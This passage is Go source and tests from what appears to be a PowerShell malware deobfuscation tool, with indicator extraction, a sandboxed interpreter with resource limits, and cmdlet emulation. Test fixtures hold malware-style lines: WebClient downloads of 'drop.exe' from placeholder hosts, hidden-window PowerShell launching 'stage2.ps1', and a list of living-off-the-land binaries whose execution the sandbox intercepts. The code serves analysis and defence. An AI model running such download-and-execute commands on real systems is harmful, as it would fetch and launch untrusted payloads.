		n = varRefRe.ReplaceAllString(n, "$$v")
		fields := strings.Fields(n)
		for j, f := range fields {
			// Reduce path-like arguments to their base names so env-var
			// resolution does not defeat the comparison.
			if strings.ContainsAny(f, "\\/") {
				fields[j] = baseName(f)
			}
			fields[j] = strings.Trim(fields[j], "'\"")
		}
		out[i] = strings.Join(fields, " ")
	}
	return out
}

func countMatches(got, want []string) int {
	n := 0
	for _, w := range want {
		for _, g := range got {
			// The recovered item must contain the full ground-truth
			// indicator; a partial URL fragment does not count as
			// recovered.
			if strings.Contains(strings.ToLower(g), strings.ToLower(w)) {
				n++
				break
			}
		}
	}
	return n
}
