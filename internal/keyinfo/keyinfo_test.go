package keyinfo

import "testing"

func TestExtract(t *testing.T) {
	src := `$u = 'https://evil1.example/path/x.php?id=1'
(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/drop.exe', "$env:TEMP\drop.exe")
powershell -nop -w hidden -File C:\Users\Public\stage2.ps1
Invoke-WebRequest -Uri $u
ping 203.0.113.9`
	info := Extract(src)
	if len(info.URLs) != 2 {
		t.Errorf("URLs = %v", info.URLs)
	}
	if len(info.IPs) != 2 {
		t.Errorf("IPs = %v", info.IPs)
	}
	if len(info.Ps1) != 1 || baseName(info.Ps1[0]) != "stage2.ps1" {
		t.Errorf("Ps1 = %v", info.Ps1)
	}
	if len(info.PowerShell) != 1 {
		t.Errorf("PowerShell = %v", info.PowerShell)
	}
	if info.Count() != 6 {
		t.Errorf("Count = %d", info.Count())
	}
}

func TestExtractDeduplicates(t *testing.T) {
	src := "'http://a.test/x' ; 'HTTP://A.TEST/x' ; 'http://a.test/x'"
	info := Extract(src)
	if len(info.URLs) != 1 {
		t.Errorf("URLs = %v", info.URLs)
	}
}

func TestExtractTrimsPunctuation(t *testing.T) {
	info := Extract(`write-host 'visit http://site.test/a).'`)
	if len(info.URLs) != 1 || info.URLs[0] != "http://site.test/a" {
		t.Errorf("URLs = %v", info.URLs)
	}
}

func TestMatchesEnvExpansion(t *testing.T) {
	truth := Extract(`powershell -w hidden -File $env:APPDATA\report1.ps1`)
	got := Extract(`powershell -w hidden -File C:\Users\user\AppData\Roaming\report1.ps1`)
	m := Matches(got, truth)
	if m[KindPs1] != 1 {
		t.Errorf("ps1 match = %d (truth %v, got %v)", m[KindPs1], truth.Ps1, got.Ps1)
	}
	if m[KindPowerShell] != 1 {
		t.Errorf("powershell match = %d", m[KindPowerShell])
	}
}

func TestMatchesVariableRenaming(t *testing.T) {
	truth := Extract("powershell -nop -Command $code")
	got := Extract("powershell -nop -Command $var1")
	if m := Matches(got, truth); m[KindPowerShell] != 1 {
		t.Errorf("renamed-variable command did not match: %d", m[KindPowerShell])
	}
}

func TestMatchesPartialRecovery(t *testing.T) {
	truth := Extract("'http://one.test/a' ; 'http://two.test/b'")
	got := Extract("'http://one.test/a'")
	if m := Matches(got, truth); m[KindURL] != 1 {
		t.Errorf("URL matches = %d, want 1", m[KindURL])
	}
}

func TestIPFiltering(t *testing.T) {
	info := Extract("$v = '1.2.3.4'; $bad = '999.1.1.1'")
	if len(info.IPs) != 1 || info.IPs[0] != "1.2.3.4" {
		t.Errorf("IPs = %v", info.IPs)
	}
}
