package psinterp

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"
)

// TestDeadlineStopsInfiniteLoop asserts the context deadline cuts off a
// while($true) loop on the step-counter hot path, well before the step
// budget would.
func TestDeadlineStopsInfiniteLoop(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	in := New(Options{MaxSteps: 1 << 40, Ctx: ctx})
	start := time.Now()
	_, err := in.EvalSnippet("while ($true) { $i = $i + 1 }")
	elapsed := time.Since(start)
	if !errors.Is(err, ErrDeadline) {
		t.Fatalf("want ErrDeadline, got %v", err)
	}
	if elapsed > 200*time.Millisecond {
		t.Fatalf("took %v, over 2x the 100ms deadline", elapsed)
	}
}

// TestCancelStopsEvaluation asserts cancelation (no deadline) surfaces
// as ErrCanceled.
func TestCancelStopsEvaluation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(20 * time.Millisecond)
		cancel()
	}()
	in := New(Options{MaxSteps: 1 << 40, Ctx: ctx})
	_, err := in.EvalSnippet("while ($true) { $i = $i + 1 }")
	if !errors.Is(err, ErrCanceled) {
		t.Fatalf("want ErrCanceled, got %v", err)
	}
}

// TestAllocBudgetStopsStringDoubling asserts the cumulative allocation
// budget catches a string-doubling loop as ErrMemBudget.
func TestAllocBudgetStopsStringDoubling(t *testing.T) {
	in := New(Options{MaxAllocBytes: 1 << 20})
	_, err := in.EvalSnippet("$s = 'a'; while ($true) { $s = $s + $s }")
	if !errors.Is(err, ErrMemBudget) {
		t.Fatalf("want ErrMemBudget, got %v", err)
	}
}

// TestAllocBudgetStopsMultiplyBomb asserts 'a'*huge is rejected by the
// allocation budget rather than materialized.
func TestAllocBudgetStopsMultiplyBomb(t *testing.T) {
	in := New(Options{MaxAllocBytes: 1 << 20})
	_, err := in.EvalSnippet("$x = 'a' * 100000000")
	if err == nil {
		t.Fatal("want an envelope error, got nil")
	}
	if !errors.Is(err, ErrMemBudget) && !errors.Is(err, ErrBudget) {
		t.Fatalf("want ErrMemBudget or ErrBudget, got %v", err)
	}
}

// TestPanicBarrier asserts interpreter panics surface as typed errors,
// never escape. The nil-map-write style of bug is simulated by a
// construct that exercises deep recursion near MaxDepth.
func TestPanicBarrier(t *testing.T) {
	src := "function f { f }; f"
	in := New(Options{MaxDepth: 8})
	if _, err := in.EvalSnippet(src); err == nil {
		t.Fatal("want depth error, got nil")
	}
}

// TestBudgetsDefaultSane asserts zero-valued options get the documented
// defaults rather than unbounded execution.
func TestBudgetsDefaultSane(t *testing.T) {
	in := New(Options{})
	if in.opts.MaxSteps != 2_000_000 {
		t.Errorf("MaxSteps default = %d, want 2000000", in.opts.MaxSteps)
	}
	if in.opts.MaxAllocBytes != 64<<20 {
		t.Errorf("MaxAllocBytes default = %d, want %d", in.opts.MaxAllocBytes, 64<<20)
	}
}

// TestIncrementalConcatChargesDelta is a regression test for the O(n²)
// accounting bug: string `+` used to charge the FULL result length on
// every append, so building a string >~11.5KB char-by-char exhausted
// the default 64 MiB cumulative budget. Only the appended delta must be
// charged — char/chunk-wise building is the single most common
// obfuscation pattern.
func TestIncrementalConcatChargesDelta(t *testing.T) {
	in := New(Options{})
	vals, err := in.EvalSnippet(
		"$s = ''; $i = 0; while ($i -lt 20000) { $s = $s + 'a'; $i = $i + 1 }; $s.Length")
	if err != nil {
		t.Fatalf("incremental 20KB build failed under default budget: %v", err)
	}
	if len(vals) == 0 || ToString(vals[len(vals)-1]) != "20000" {
		t.Fatalf("unexpected result %v", vals)
	}
}

// TestConcatResultStillCapped asserts the per-string cap still applies
// to `+` results after the delta-charging fix.
func TestConcatResultStillCapped(t *testing.T) {
	in := New(Options{MaxStringLen: 1 << 10})
	_, err := in.EvalSnippet("$s = 'a'; while ($true) { $s = $s + $s }")
	if !errors.Is(err, ErrBudget) && !errors.Is(err, ErrMemBudget) {
		t.Fatalf("want ErrBudget/ErrMemBudget, got %v", err)
	}
}

// TestStringNewHugeCountNoOverflow asserts [string]::new(char, n) with
// n near 2^62 is rejected by the budget guard instead of the
// n*len(unit) product wrapping int64 and reaching strings.Repeat.
func TestStringNewHugeCountNoOverflow(t *testing.T) {
	in := New(Options{})
	_, err := in.EvalSnippet("[string]::new([char]97, 4611686018427387904)")
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("want ErrBudget, got %v", err)
	}
}

// TestStringRepeatHugeCountNoOverflow asserts 'aaaa' * n with a huge n
// is rejected before the len*count product can wrap int64.
func TestStringRepeatHugeCountNoOverflow(t *testing.T) {
	in := New(Options{})
	_, err := in.EvalSnippet("$x = 'aaaa' * 4611686018427387904")
	if !errors.Is(err, ErrBudget) {
		t.Fatalf("want ErrBudget, got %v", err)
	}
}

// TestWorkStillCompletesUnderEnvelope asserts a benign script is
// unaffected by a generous envelope.
func TestWorkStillCompletesUnderEnvelope(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	in := New(Options{Ctx: ctx})
	vals, err := in.EvalSnippet("('ab'+'cd').ToUpper()")
	if err != nil {
		t.Fatalf("EvalSnippet: %v", err)
	}
	if len(vals) != 1 || !strings.Contains(ToString(vals[0]), "ABCD") {
		t.Fatalf("unexpected result %v", vals)
	}
}
