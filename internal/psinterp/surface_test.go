package psinterp

import (
	"errors"
	"strings"
	"testing"
)

// TestDotNetSurface sweeps the simulated .NET surface: statics,
// encodings, objects and their methods.
func TestDotNetSurface(t *testing.T) {
	tests := []struct{ src, want string }{
		// Char statics.
		{"[char]::IsDigit('7')", "True"},
		{"[char]::IsLetter('x')", "True"},
		{"[char]::IsLetter('7')", "False"},
		{"[char]::GetNumericValue('8')", "8"},
		{"[char]::ToLower('A')", "a"},
		{"[char]::ToString(66)", "B"},
		// String statics.
		{"[string]::Compare('a','b')", "-1"},
		{"[string]::Equals('A','A')", "True"},
		{"[string]::Copy('dup')", "dup"},
		{"[string]::new('!', 4)", "!!!!"},
		{"[string]::IsNullOrWhiteSpace('  ')", "True"},
		{"[string]::Empty", ""},
		// Convert.
		{"[convert]::ToBoolean(1)", "True"},
		{"[convert]::ToDouble('1.5')", "1.5"},
		{"[convert]::ToString(9)", "9"},
		{"[convert]::ToInt16('7')", "7"},
		// Math.
		{"[math]::Ceiling(2.1)", "3"},
		{"[math]::Round(2.5)", "3"},
		{"[math]::Truncate(2.9)", "2"},
		{"[math]::Min(3,1)", "1"},
		{"[math]::Log([math]::E)", "1"},
		{"[math]::Exp(0)", "1"},
		// Environment.
		{"[environment]::MachineName", "DESKTOP-2C3IQHO"},
		{"[environment]::SystemDirectory", "C:\\WINDOWS\\system32"},
		// Encoding variants.
		{"[Text.Encoding]::BigEndianUnicode.GetString((0,104,0,105))", "hi"},
		{"([Text.Encoding]::UTF32.GetBytes('A')) -join ','", "65,0,0,0"},
		{"[Text.Encoding]::GetEncoding('utf-8').GetString((104,105))", "hi"},
		{"([Text.Encoding]::ASCII.GetBytes('h€')) -join ','", "104,63"},
		// Regex statics.
		{"([regex]::Match('abc123','\\d+')).Value", "123"},
		{"([regex]::Matches('a1b2','\\d')).Count", "2"},
		{"[regex]::Unescape('a\\.b')", "a.b"},
		// Path.
		{"[io.path]::GetFileName('C:\\dir\\file.exe')", "file.exe"},
		{"[io.path]::GetExtension('x.ps1')", ".ps1"},
		{"[io.path]::GetTempPath()", "C:\\Users\\user\\AppData\\Local\\Temp\\"},
		// Misc statics.
		{"[intptr]::Zero", "0"},
		{"[guid]::Empty", "00000000-0000-0000-0000-000000000000"},
		{"[datetime]::Now", "01/01/2021 00:00:00"},
		{"[IO.Compression.CompressionMode]::Decompress", "Decompress"},
		{"[char]::MaxValue -eq [char]0xFFFF", "True"},
		{"[int]::MaxValue", "2147483647"},
		{"[threading.thread]::Sleep(1)", ""},
		{"[web.httputility]::UrlDecode('plain')", "plain"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestObjectSurface(t *testing.T) {
	tests := []struct{ src, want string }{
		// MemoryStream.
		{"$ms = New-Object IO.MemoryStream(,(65,66)); ($ms.ToArray()) -join ','", "65,66"},
		{"$ms = New-Object IO.MemoryStream; $ms.Write((67,68)); ($ms.ToArray()) -join ''", "6768"},
		{"([IO.MemoryStream][convert]::FromBase64String('QUI=')).Length", "2"},
		// StringBuilder-ish and uri.
		{"([uri]'https://u.test:8443/p?q').Host", "u.test"},
		{"([uri]'http://plain.test/x').AbsoluteUri", "http://plain.test/x"},
		// Random (deterministic LCG).
		{"$r = New-Object Random 7; ($r.Next(10) -ge 0) -and ($r.Next(5,9) -ge 5)", "True"},
		// WebClient headers hashtable.
		{"$wc = New-Object Net.WebClient; $wc.Headers.Add('UA','x'); $wc.Headers['UA']", "x"},
		// Encoding object from New-Object.
		{"(New-Object Text.UnicodeEncoding).GetString((104,0,105,0))", "hi"},
		{"(New-Object Text.ASCIIEncoding).GetBytes('hi') -join ','", "104,105"},
		// ScriptBlock factory via ExecutionContext.
		{"$executioncontext.invokecommand.getcommand('Write-Host').Name", "Write-Host"},
		// GetType and type values.
		{"'x'.GetType().Name", "String"},
		{"(5).GetType().FullName", "System.Int32"},
		{"(1,2).GetType().Name", "Object[]"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestMoreCmdlets(t *testing.T) {
	tests := []struct{ src, want string }{
		{"(Get-Culture).Name", "en-US"},
		{"(Get-Host).Name", "ConsoleHost"},
		{"Get-ExecutionPolicy", "Unrestricted"},
		{"(Get-Location).Path", "C:\\Users\\user"},
		{"Split-Path 'C:\\a\\b.txt'", "C:\\a"},
		{"Split-Path 'C:\\a\\b.txt' -Leaf", "b.txt"},
		{"Join-Path 'C:\\a' 'b'", "C:\\a\\b"},
		{"Test-Path 'C:\\none'", "False"},
		{"Resolve-Path 'rel'", "rel"},
		{"(Get-Date).Year", "2021"},
		{"$p = Get-Random -Minimum 1 -Maximum 10; ($p -ge 1) -and ($p -lt 10)", "True"},
		{"(Get-Random -InputObject (5,5,5))", "5"},
		{"(Get-Process).ProcessName", "powershell"},
		{"Read-Host 'prompt'", ""},
		{"(Measure-Object -InputObject x).Count", "0"},
		{"1,2,1 | Get-Unique | Measure-Object | ForEach-Object Count", "2"},
		{"New-Variable fresh 11; $fresh", "11"},
		{"Set-Variable sv 12; $sv", "12"},
		{"$rm = 1; Remove-Variable rm; $rm -eq $null", "True"},
		{"(New-Item 'C:\\tmp\\f.txt').Name", "C:\\tmp\\f.txt"},
		{"'a','b' | Tee-Object | Select-Object -Last 1", "b"},
		{"@(1,2,3) | Select-Object -Skip 1 | Select-Object -First 1", "2"},
		{"(1,2,3 | Select-Object -Index 0,2) -join ''", "13"},
		{"('hi' | Out-String).Length", "4"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestStatementSurface(t *testing.T) {
	tests := []struct{ src, want string }{
		{"do { $i++ } while ($i -lt 3); $i", "3"},
		{"$s = switch (1,2) { 1 {'a'} 2 {'b'} }; $s -join ''", "ab"},
		{"switch ('hello*world') { 'hello*' {'wild'} default {'no'} }", "no"},
		{"trap { 'trapped' }\n'fine'", "fine"},
		{"$a = $null; $a ?? 'x'", ""}, // ?? unsupported; parse tolerance not required
	}
	for _, tt := range tests[:4] {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestHostInteractions(t *testing.T) {
	in := New(Options{})
	// DenyHost blocks all side-effect channels with ErrSideEffect.
	for _, src := range []string{
		"(New-Object Net.WebClient).DownloadFile('http://x.test/a','b')",
		"(New-Object Net.WebClient).DownloadData('http://x.test/a')",
		"'x' | Out-File 'C:\\f.txt'",
		"Set-Content 'C:\\f.txt' 'v'",
		"Remove-Item 'C:\\f.txt'",
		"[Net.Dns]::GetHostAddresses('h.test')[0]",
	} {
		if _, err := in.EvalSnippet(src); !errors.Is(err, ErrSideEffect) {
			t.Errorf("%q: err = %v, want ErrSideEffect", src, err)
		}
	}
}

func TestSplitAndTrimVariants(t *testing.T) {
	tests := []struct{ src, want string }{
		{"('a1b2c3' -split '\\d') -join '.'", "a.b.c."},
		{"('a,b;c'.Split(',;')) -join '|'", "a|b|c"},
		{"('one two'.Split()) -join '+'", "one+two"},
		{"('a-b-c' -split '-', 2) -join '|'", "a|b-c"},
		{"'xxhixx'.TrimStart('x')", "hixx"},
		{"'xxhixx'.TrimEnd('x')", "xxhi"},
		{"' pad '.TrimStart()", "pad "},
		{"('x' -replace '(?<first>x)','${first}y')", "xy"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestErrorPaths(t *testing.T) {
	in := New(Options{})
	cases := []string{
		"[char]$true",
		"'x'.Substring(99)",
		"'x'.NoSuchMethod()",
		"$null.Property",
		"[nosuchtype]5",
		"Unknown-Cmdlet",
		"1/0",
		"[convert]::ToInt32('zz',16)",
	}
	for _, src := range cases {
		if _, err := in.EvalSnippet(src); err == nil {
			t.Errorf("%q: expected error", src)
		}
	}
}

func TestConsoleStatics(t *testing.T) {
	in := New(Options{})
	if _, err := in.EvalSnippet("[console]::WriteLine('console-out')"); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(in.Console(), "console-out") {
		t.Errorf("console = %q", in.Console())
	}
}
