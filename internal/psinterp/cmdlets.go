package psinterp

import (
	"fmt"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
)

// commandArg is one evaluated command argument.
type commandArg struct {
	isParam bool
	param   string // includes the leading dash, lower-cased
	value   any
}

// runCommand resolves and executes one pipeline command element.
func (in *Interp) runCommand(cmd *psast.Command, input []any, sc *scope) ([]any, error) {
	name, sbv, err := in.resolveCommandName(cmd, sc)
	if err != nil {
		return nil, err
	}
	args, err := in.evalCommandArgs(cmd.Args, sc)
	if err != nil {
		return nil, err
	}
	// The overriding-function hook only binds to literally spelled
	// command names — the textual substitution the real tools perform.
	// Dynamically constructed invocations (&('iex'), .($pshome[4]+...))
	// bypass the override, which is one reason the paper finds the
	// technique limited (§IV-C2).
	if in.opts.IEXHook != nil && sbv == nil {
		if _, isLiteral := cmd.Name.(*psast.StringConstant); isLiteral {
			if NormalizeCommandName(name) == "invoke-expression" {
				code := ""
				if pos := positionals(args); len(pos) > 0 {
					code = ToString(pos[0])
				} else if len(input) > 0 {
					code = ToString(Unwrap(input))
				}
				if strings.TrimSpace(code) != "" {
					in.markImpure("iex hook observed code")
					in.opts.IEXHook(code)
				}
				return nil, nil
			}
		}
	}
	if sbv != nil {
		var posArgs []any
		for _, a := range args {
			if !a.isParam {
				posArgs = append(posArgs, a.value)
			}
		}
		return in.InvokeScriptBlock(sbv, posArgs, input, sc)
	}
	return in.dispatchCommand(name, args, input, sc)
}

// resolveCommandName evaluates the command-name expression. It returns
// either a name string or a script block to invoke.
func (in *Interp) resolveCommandName(cmd *psast.Command, sc *scope) (string, *ScriptBlockValue, error) {
	switch n := cmd.Name.(type) {
	case *psast.StringConstant:
		return n.Value, nil, nil
	default:
		v, err := in.evalExpr(cmd.Name, sc)
		if err != nil {
			return "", nil, err
		}
		if sb, ok := v.(*ScriptBlockValue); ok {
			return "", sb, nil
		}
		return ToString(v), nil, nil
	}
}

func (in *Interp) evalCommandArgs(nodes []psast.Node, sc *scope) ([]commandArg, error) {
	var args []commandArg
	for _, node := range nodes {
		switch a := node.(type) {
		case *psast.CommandParameter:
			arg := commandArg{isParam: true, param: strings.ToLower(a.Name)}
			if a.Argument != nil {
				v, err := in.evalExpr(a.Argument, sc)
				if err != nil {
					return nil, err
				}
				arg.value = v
			}
			args = append(args, arg)
		default:
			v, err := in.evalExpr(node, sc)
			if err != nil {
				return nil, err
			}
			args = append(args, commandArg{value: v})
		}
	}
	return args, nil
}

// NormalizeCommandName lower-cases a command name and strips path
// prefixes and the .exe suffix so powershell.exe, .\powershell and
// C:\...\powershell.exe all resolve alike.
func NormalizeCommandName(name string) string {
	n := strings.ToLower(strings.Trim(name, "\"' "))
	if i := strings.LastIndexAny(n, "\\/"); i >= 0 {
		n = n[i+1:]
	}
	n = strings.TrimSuffix(n, ".exe")
	if alias := psnames.ResolveAlias(n); alias != "" {
		n = strings.ToLower(alias)
	}
	return n
}

func (in *Interp) dispatchCommand(rawName string, args []commandArg, input []any, sc *scope) ([]any, error) {
	name := NormalizeCommandName(rawName)
	if in.opts.Blocklist[name] || in.opts.Blocklist[strings.ToLower(rawName)] {
		return nil, fmt.Errorf("%w: %s", ErrBlocked, rawName)
	}
	if fn, ok := in.funcs[name]; ok {
		return in.callFunction(fn, args, input, sc)
	}
	if fn, ok := in.funcs[strings.ToLower(rawName)]; ok {
		return in.callFunction(fn, args, input, sc)
	}
	// A variable holding a script block can be named as a command via
	// & 'name' only for real command names; skip that case.
	if builtin, ok := builtins[name]; ok {
		// Commands outside the pure-static whitelist may touch the
		// console, the simulated filesystem or nondeterminism sources;
		// invoking one disqualifies the run from the evaluation cache.
		if !pureBuiltins[name] {
			in.markImpure("command: " + name)
		}
		return builtin(in, args, input, sc)
	}
	in.markImpure("command: " + name)
	switch name {
	case "powershell", "pwsh":
		return in.runPowerShell(args, input)
	case "cmd":
		return in.runCmdExe(args)
	case "wscript", "cscript", "mshta", "rundll32", "regsvr32", "certutil",
		"bitsadmin", "schtasks", "msbuild", "installutil", "notepad", "calc",
		"whoami", "ipconfig", "systeminfo", "tasklist", "ping":
		return nil, in.host.StartProcess(name, argStrings(args))
	}
	return nil, fmt.Errorf("%w: unknown command %q", ErrUnsupported, rawName)
}

func argStrings(args []commandArg) []string {
	var out []string
	for _, a := range args {
		if a.isParam {
			out = append(out, a.param)
			if a.value != nil {
				out = append(out, ToString(a.value))
			}
			continue
		}
		out = append(out, ToString(a.value))
	}
	return out
}

// positionals returns the non-parameter argument values.
func positionals(args []commandArg) []any {
	var out []any
	for _, a := range args {
		if !a.isParam {
			out = append(out, a.value)
		}
	}
	return out
}

// paramValue returns the value following a parameter whose name matches
// the prefix rule used by PowerShell's parameter binder, e.g.
// paramValue(args, "encodedcommand") matches -e, -enc, -encodedcommand.
func paramValue(args []commandArg, full string) (any, bool) {
	for i, a := range args {
		if !a.isParam {
			continue
		}
		p := strings.TrimPrefix(a.param, "-")
		if p == "" || !strings.HasPrefix(full, p) {
			continue
		}
		if a.value != nil {
			return a.value, true
		}
		if i+1 < len(args) && !args[i+1].isParam {
			return args[i+1].value, true
		}
		return nil, true
	}
	return nil, false
}

type builtinFunc func(in *Interp, args []commandArg, input []any, sc *scope) ([]any, error)

var builtins map[string]builtinFunc

func init() {
	builtins = map[string]builtinFunc{
		"invoke-expression":        cmdInvokeExpression,
		"foreach-object":           cmdForEachObject,
		"where-object":             cmdWhereObject,
		"select-object":            cmdSelectObject,
		"sort-object":              cmdSortObject,
		"measure-object":           cmdMeasureObject,
		"get-unique":               cmdGetUnique,
		"write-output":             cmdWriteOutput,
		"write-host":               cmdWriteHost,
		"write-error":              cmdSwallow,
		"write-warning":            cmdSwallow,
		"write-verbose":            cmdSwallow,
		"write-debug":              cmdSwallow,
		"out-null":                 cmdOutNull,
		"out-string":               cmdOutString,
		"out-host":                 cmdOutHost,
		"out-default":              cmdOutHost,
		"out-file":                 cmdOutFile,
		"set-content":              cmdSetContent,
		"add-content":              cmdSetContent,
		"new-object":               cmdNewObject,
		"get-variable":             cmdGetVariable,
		"set-variable":             cmdSetVariable,
		"new-variable":             cmdSetVariable,
		"remove-variable":          cmdRemoveVariable,
		"clear-variable":           cmdRemoveVariable,
		"get-command":              cmdGetCommand,
		"get-alias":                cmdGetAlias,
		"get-item":                 cmdGetItem,
		"invoke-command":           cmdInvokeCommand,
		"invoke-webrequest":        cmdInvokeWebRequest,
		"invoke-restmethod":        cmdInvokeWebRequest,
		"invoke-item":              cmdStartProcess,
		"start-process":            cmdStartProcess,
		"start-bitstransfer":       cmdBitsTransfer,
		"start-sleep":              cmdStartSleep,
		"convertto-securestring":   cmdConvertToSecureString,
		"convertfrom-securestring": cmdConvertFromSecureString,
		"split-path":               cmdSplitPath,
		"join-path":                cmdJoinPath,
		"test-path":                cmdTestPath,
		"resolve-path":             cmdResolvePath,
		"get-location":             cmdGetLocation,
		"set-location":             cmdNoop,
		"push-location":            cmdNoop,
		"pop-location":             cmdNoop,
		"get-date":                 cmdGetDate,
		"get-random":               cmdGetRandom,
		"get-process":              cmdGetProcess,
		"get-host":                 cmdGetHost,
		"clear-host":               cmdNoop,
		"import-module":            cmdNoop,
		"get-module":               cmdNoop,
		"set-executionpolicy":      cmdNoop,
		"get-executionpolicy":      cmdGetExecutionPolicy,
		"add-type":                 cmdNoop,
		"select-string":            cmdSelectString,
		"tee-object":               cmdWriteOutput,
		"format-table":             cmdOutHost,
		"format-list":              cmdOutHost,
		"format-wide":              cmdOutHost,
		"read-host":                cmdReadHost,
		"remove-item":              cmdRemoveItem,
		"copy-item":                cmdNoop,
		"move-item":                cmdNoop,
		"new-item":                 cmdNewItem,
		"get-content":              cmdGetContent,
		"get-member":               cmdNoop,
		"group-object":             cmdWriteOutput,
		"compare-object":           cmdNoop,
		"get-culture":              cmdGetCulture,
		"set-alias":                cmdNoop,
		"new-alias":                cmdNoop,
		"get-service":              cmdNoop,
		"get-wmiobject":            cmdNoop,
		"get-ciminstance":          cmdNoop,
		"unblock-file":             cmdNoop,
		"stop-process":             cmdNoop,
	}
}

func cmdInvokeExpression(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	var code string
	if pos := positionals(args); len(pos) > 0 {
		code = ToString(pos[0])
	} else if v, ok := paramValue(args, "command"); ok {
		code = ToString(v)
	} else if len(input) > 0 {
		code = ToString(Unwrap(input))
	}
	if strings.TrimSpace(code) == "" {
		return nil, nil
	}
	if in.opts.EngineScriptHook != nil {
		in.markImpure("engine-script hook observed code")
		in.opts.EngineScriptHook(code)
	}
	if in.depth >= in.opts.MaxDepth {
		return nil, ErrBudget
	}
	in.depth++
	defer func() { in.depth-- }()
	return in.EvalSnippet(code)
}

func scriptBlockArgs(args []commandArg) []*ScriptBlockValue {
	var out []*ScriptBlockValue
	for _, a := range args {
		if sb, ok := a.value.(*ScriptBlockValue); ok {
			out = append(out, sb)
		}
	}
	return out
}

func cmdForEachObject(in *Interp, args []commandArg, input []any, sc *scope) ([]any, error) {
	blocks := scriptBlockArgs(args)
	if len(blocks) == 0 {
		// Member-projection form: | ForEach-Object Length.
		if pos := positionals(args); len(pos) > 0 {
			name := ToString(pos[0])
			var out []any
			for _, item := range input {
				v, err := in.getProperty(item, name)
				if err != nil {
					v2, merr := in.invokeMethod(item, name, nil, sc)
					if merr != nil {
						return nil, err
					}
					v = v2
				}
				out = append(out, v)
			}
			return out, nil
		}
		return input, nil
	}
	var begin, process, end *ScriptBlockValue
	switch len(blocks) {
	case 1:
		process = blocks[0]
	case 2:
		begin, process = blocks[0], blocks[1]
	default:
		begin, process, end = blocks[0], blocks[1], blocks[len(blocks)-1]
	}
	if v, ok := paramValue(args, "begin"); ok {
		if sb, ok := v.(*ScriptBlockValue); ok {
			begin = sb
		}
	}
	if v, ok := paramValue(args, "process"); ok {
		if sb, ok := v.(*ScriptBlockValue); ok {
			process = sb
		}
	}
	if v, ok := paramValue(args, "end"); ok {
		if sb, ok := v.(*ScriptBlockValue); ok {
			end = sb
		}
	}
	var out []any
	run := func(sb *ScriptBlockValue) error {
		vals, err := in.evalScriptBlockBody(sb.Body, sc)
		out = append(out, vals...)
		if stop, err := loopSignal(err); stop {
			return err
		}
		return nil
	}
	if begin != nil {
		if err := run(begin); err != nil {
			return out, err
		}
	}
	if process != nil {
		for _, item := range input {
			if err := in.step(); err != nil {
				return out, err
			}
			sc.set("_", item)
			if err := run(process); err != nil {
				return out, err
			}
		}
	}
	if end != nil {
		if err := run(end); err != nil {
			return out, err
		}
	}
	return out, nil
}

func cmdWhereObject(in *Interp, args []commandArg, input []any, sc *scope) ([]any, error) {
	blocks := scriptBlockArgs(args)
	if len(blocks) == 0 {
		return input, nil
	}
	var out []any
	for _, item := range input {
		if err := in.step(); err != nil {
			return out, err
		}
		sc.set("_", item)
		vals, err := in.evalScriptBlockBody(blocks[0].Body, sc)
		if err != nil {
			return out, err
		}
		if ToBool(Unwrap(vals)) {
			out = append(out, item)
		}
	}
	return out, nil
}

func cmdSelectObject(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	out := input
	if v, ok := paramValue(args, "first"); ok {
		n, err := ToInt(v)
		if err == nil && int(n) < len(out) {
			out = out[:n]
		}
	}
	if v, ok := paramValue(args, "last"); ok {
		n, err := ToInt(v)
		if err == nil && int(n) < len(out) {
			out = out[len(out)-int(n):]
		}
	}
	if v, ok := paramValue(args, "skip"); ok {
		n, err := ToInt(v)
		if err == nil {
			if int(n) >= len(out) {
				out = nil
			} else {
				out = out[n:]
			}
		}
	}
	if v, ok := paramValue(args, "index"); ok {
		var picked []any
		for _, ix := range ToArray(v) {
			n, err := ToInt(ix)
			if err == nil && n >= 0 && int(n) < len(out) {
				picked = append(picked, out[n])
			}
		}
		out = picked
	}
	if v, ok := paramValue(args, "expandproperty"); ok {
		name := ToString(v)
		var picked []any
		for _, item := range out {
			p, err := in.getProperty(item, name)
			if err != nil {
				return nil, err
			}
			picked = append(picked, p)
		}
		out = picked
	}
	if _, ok := paramValue(args, "unique"); ok {
		out = uniqueValues(out)
	}
	return out, nil
}

func uniqueValues(in []any) []any {
	var out []any
	for _, v := range in {
		dup := false
		for _, u := range out {
			if DeepEqualFold(u, v) {
				dup = true
				break
			}
		}
		if !dup {
			out = append(out, v)
		}
	}
	return out
}

func cmdSortObject(_ *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	_, desc := paramValue(args, "descending")
	out := sortValues(input, desc)
	if _, ok := paramValue(args, "unique"); ok {
		out = uniqueValues(out)
	}
	return out, nil
}

func cmdMeasureObject(_ *Interp, _ []commandArg, input []any, _ *scope) ([]any, error) {
	o := NewObject("Microsoft.PowerShell.Commands.GenericMeasureInfo")
	o.Props["count"] = int64(len(input))
	return []any{o}, nil
}

func cmdGetUnique(_ *Interp, _ []commandArg, input []any, _ *scope) ([]any, error) {
